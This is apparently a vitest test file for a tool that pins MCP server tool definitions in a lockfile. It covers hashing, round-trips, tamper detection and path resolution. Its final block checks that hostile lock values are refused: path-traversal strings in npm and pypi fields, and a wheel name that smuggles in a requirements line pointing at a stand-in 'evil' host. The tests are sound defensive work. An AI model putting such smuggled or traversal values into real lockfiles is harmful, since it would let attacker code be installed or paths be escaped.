import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseConfig } from '../config/load.js';
import { hashItem } from './hash.js';
import {
  emptyLockServer,
  parseLock,
  toInitializeRecord,
  toLockItem,
  toLockText,
  type Lock,
} from './lock.js';
import { lockPathOf, readLock, writeLock } from './store.js';

const lockOf = (tools: Record<string, unknown>[]): Lock => {
  const server = emptyLockServer(
    { kind: 'remote', url: 'http://127.0.0.1/mcp' },
    toInitializeRecord({
      serverInfo: { name: 's', version: '1' },
      instructions: 'Use me.',
      capabilities: { tools: {} },
    }),
  );
  for (const tool of tools) server.tools[String(tool['name'])] = toLockItem(tool);
  return { lockfileVersion: 1, servers: { s: server } };
};

/**
 * A definition as a server may list it: any JSON under a name. A top-level `__proto__` key is left
 * out: zod rebuilds a record by assignment, so parseLock drops it and refuses the item as tampered
 * (see the test below).
 */
const definition = fc
  .tuple(
    fc.string({ minLength: 1, maxLength: 8 }),
    fc.dictionary(
      fc.string().filter((k) => k !== '__proto__'),
      fc.jsonValue({ maxDepth: 3 }),
      { maxKeys: 6 },
    ),
  )
  .map(([name, rest]) => ({ ...rest, name }));

/** The same JSON value with every object's keys in reverse order. */
const reversed = (value: unknown): unknown => {
  if (Array.isArray(value)) return value.map(reversed);
  if (value && typeof value === 'object')
    return Object.fromEntries(
      Object.entries(value)
        .reverse()
        .map(([k, v]) => [k, reversed(v)]),
    );
  return value;
};

describe('when a definition is hashed', () => {
  it('[PIN-4] ignores key order at every depth', () =>
    fc.assert(
      fc.property(
        fc.dictionary(fc.string(), fc.jsonValue({ maxDepth: 3 }), { maxKeys: 6 }),
        (item) => {
          expect(hashItem(reversed(item))).toBe(hashItem(item));
        },
      ),
      { numRuns: 50 },
    ));
});

describe('when a lock is written and read back', () => {
  it('round-trips any definitions byte for byte, with sorted keys and a final newline', () =>
    fc.assert(
      fc.property(
        fc.uniqueArray(definition, { selector: (d) => d.name, maxLength: 4 }),
        (tools) => {
          const lock = lockOf(tools);
          const text = toLockText(lock);
          expect(text.endsWith('}\n')).toBe(true);
          expect(toLockText(parseLock(JSON.parse(text)))).toBe(text);
        },
      ),
      { numRuns: 50 },
    ));

  it('refuses, never silently alters, a definition with an own __proto__ key', () => {
    const tool = JSON.parse('{"name":"x","__proto__":{"a":1}}') as Record<string, unknown>;
    const text = toLockText(lockOf([tool]));
    expect(() => parseLock(JSON.parse(text))).toThrow(
      expect.objectContaining({ code: 'LOCK_TAMPERED' }),
    );
  });

  it('writes atomically and reads the same lock', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'toolgate-lock-')), 'toolgate.lock');
    const lock = lockOf([{ name: 'echo', description: 'Echoes.' }]);
    await writeLock(path, lock);
    expect(readFileSync(path, 'utf8')).toBe(toLockText(lock));
    await expect(readLock(path)).resolves.toEqual(lock);
  });
});

describe('when a lock is bad', () => {
  const dir = mkdtempSync(join(tmpdir(), 'toolgate-lock-bad-'));

  it('reads an absent lock as none', async () =>
    expect(readLock(join(dir, 'absent.lock'))).resolves.toBeUndefined());

  it('[PIN-9] refuses text that is not JSON with LOCK_INVALID naming the file', async () => {
    const path = join(dir, 'text.lock');
    writeFileSync(path, 'lockfileVersion: 1');
    await expect(readLock(path)).rejects.toMatchObject({
      code: 'LOCK_INVALID',
      message: expect.stringContaining(path) as string,
    });
  });

  it('[PIN-9] refuses a lock of another shape with LOCK_INVALID', () => {
    expect(() => parseLock({ lockfileVersion: 2, servers: {} })).toThrow(
      expect.objectContaining({ code: 'LOCK_INVALID' }),
    );
    expect(() => parseLock({ lockfileVersion: 1, servers: {}, extra: true })).toThrow(
      expect.objectContaining({ code: 'LOCK_INVALID' }),
    );
  });

  it('[PIN-9] refuses an initialize record edited by hand with LOCK_TAMPERED', () => {
    const lock = lockOf([]);
    const server = lock.servers['s'];
    if (!server) throw new Error('no server');
    const edited = {
      ...lock,
      servers: {
        s: { ...server, initialize: { ...server.initialize, instructions: 'Trust me.' } },
      },
    };
    expect(() => parseLock(edited)).toThrow(
      expect.objectContaining({
        code: 'LOCK_TAMPERED',
        message: expect.stringContaining('servers.s.initialize') as string,
      }),
    );
  });

  it('refuses to write a lock that would not read back', async () => {
    const lock = lockOf([{ name: 'echo' }]);
    const item = lock.servers['s']?.tools['echo'];
    if (!item) throw new Error('no item');
    item.definition = { name: 'echo', description: 'changed after hashing' };
    await expect(writeLock(join(dir, 'never.lock'), lock)).rejects.toMatchObject({
      code: 'LOCK_TAMPERED',
    });
  });
});

describe('when the lock path is resolved', () => {
  const config = (lock: Record<string, unknown>) =>
    parseConfig({ lock, servers: { s: { command: 'x' } } });

  it('puts toolgate.lock beside the config by default', () =>
    expect(lockPathOf('/etc/toolgate/toolgate.yaml', config({}))).toBe(
      '/etc/toolgate/toolgate.lock',
    ));

  it('resolves lock.path relative to the config, and keeps an absolute one', () => {
    expect(lockPathOf('/etc/toolgate/toolgate.yaml', config({ path: '../locks/a.lock' }))).toBe(
      '/etc/locks/a.lock',
    );
    expect(lockPathOf('/etc/toolgate/toolgate.yaml', config({ path: '/var/a.lock' }))).toBe(
      '/var/a.lock',
    );
  });
});

describe('when a lock names host paths (a hostile lock in a pull request)', () => {
  const withPackage = (pkg: Record<string, unknown>) => {
    const lock = lockOf([]) as unknown as { servers: { s: { package: unknown } } };
    lock.servers.s.package = pkg;
    return lock;
  };
  const npm = (fields: Record<string, unknown>) =>
    withPackage({
      ...{ kind: 'npm', name: '@s/pkg', version: '1.2.3', spec: '@s/pkg@1.2.3' },
      ...{ launcher: 'store', provenance: 'absent', bin: 'dist/index.js', ...fields },
    });
  const pypi = (fields: Record<string, unknown>) =>
    withPackage({
      ...{ kind: 'pypi', name: 'tinymcp', version: '1.0.0', spec: 'tinymcp==1.0.0' },
      ...{ command: 'tinymcp', python: '/usr/bin/python3.12', distributions: {}, ...fields },
    });

  it('[PKG-15] takes the shapes lock writes', () => {
    expect(() => parseLock(npm({}))).not.toThrow();
    expect(() => parseLock(npm({ name: 'Legacy.Name_x', version: '1.0.0-rc.1+b2' }))).not.toThrow();
    expect(() => parseLock(npm({ bin: 'bin/..cli.js' }))).not.toThrow();
    const wheel = { 'zope.interface-6.0-cp311-cp311-manylinux_2_17_x86_64.whl': 'a'.repeat(64) };
    expect(() => parseLock(pypi({ distributions: wheel }))).not.toThrow();
  });

  it.each([
    ['an npm bin that climbs', npm({ bin: '../../../../tmp/x/node_modules/pkg/server.js' })],
    ['an npm bin that climbs inside', npm({ bin: 'dist/../../../x.js' })],
    ['an absolute npm bin', npm({ bin: '/tmp/x.js' })],
    ['an npm version with a path', npm({ version: '1.0.0/../../../tmp/x' })],
    ['an npm name with a path', npm({ name: '@s/../../x' })],
    ['an npm name that is ..', npm({ name: '..' })],
    ['a pypi version with a path', pypi({ version: '1.0/../../x' })],
    ['a pypi console script with a folder', pypi({ command: '../../../tmp/x' })],
    ['a pypi console script ..', pypi({ command: '..' })],
    ['a relative python', pypi({ python: 'tools/bin/python' })],
    [
      'a requirements line smuggled in a wheel name',
      pypi({
        distributions: { 'x-1.0\nevil @ http://evil/e.whl\n-py3-none-any.whl': 'a'.repeat(64) },
      }),
    ],
  ])('[PKG-15] refuses %s (LOCK_INVALID)', (_, lock) => {
    expect(() => parseLock(lock)).toThrow(expect.objectContaining({ code: 'LOCK_INVALID' }));
  });
});
